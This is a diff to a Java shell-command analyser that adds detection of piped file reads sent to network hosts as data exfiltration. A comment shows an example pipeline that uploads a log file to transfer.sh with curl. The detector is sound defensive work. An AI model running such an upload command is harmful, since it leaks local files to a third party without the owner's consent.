@@ -321,6 +321,7 @@ final class ShellWalk {
         List<Integer> secrets = List.of();
         List<Integer> holders = List.of();
         List<Integer> rows = new ArrayList<>();
+        List<Integer> fileReads = new ArrayList<>();
         for (Command stage : p.stages()) {
             int before = operations.size();
             Stdin in = stdin;
@@ -339,9 +340,18 @@ final class ShellWalk {
                         dev.interlock.analysis.shell.recognizers.network.NetworkRecognizer.exfiltration("query-results",
                                 "the results of " + operations.get(i).evidence().text(), host, evidence(p.span()), locators))));
             }
+            if (!fileReads.isEmpty()) {
+                // cat /var/log/app.log | curl -T - https://transfer.sh/…: the file goes to a third party, as curl -T FILE
+                List<Integer> leaving = List.copyOf(fileReads);
+                Flows.rowsLeave(stage, this).ifPresent(host -> leaving.forEach(i -> add(
+                        dev.interlock.analysis.shell.recognizers.network.NetworkRecognizer.exfiltration("file",
+                                "the file " + operations.get(i).resource().name(), host, evidence(p.span()), locators))));
+            }
             for (int i = 0; i < produced.size(); i++) {
                 if (DatabaseOps.returnsRows(produced.get(i))) {
                     rows.add(before + i);
+                } else if (readsNamedFile(produced.get(i))) {
+                    fileReads.add(before + i);
                 }
             }
             Optional<String> login = secrets.isEmpty() ? Optional.empty() : Flows.logsInFromStdin(stage, this);
@@ -401,6 +411,12 @@ final class ShellWalk {
                     RowsToFile.target(stage, this).ifPresent(f -> secretOutputs.written(workspace.resolve(f), c.what())));
             stdin = Stdin.from(stage, this, in);
         }
+    }
+
+    /** A read of a file or directory named on the command line (not the command's own input). */
+    private static boolean readsNamedFile(Operation op) {
+        return op.system().equals("filesystem") && op.verb() == Verb.READ && !op.resource().name().isEmpty()
+                && java.util.Set.of("file", "directory").contains(op.resource().type());
     }
 
     /** The credential reads at {@code indexes} are plain reads: the next stage keeps their secret off the screen. */
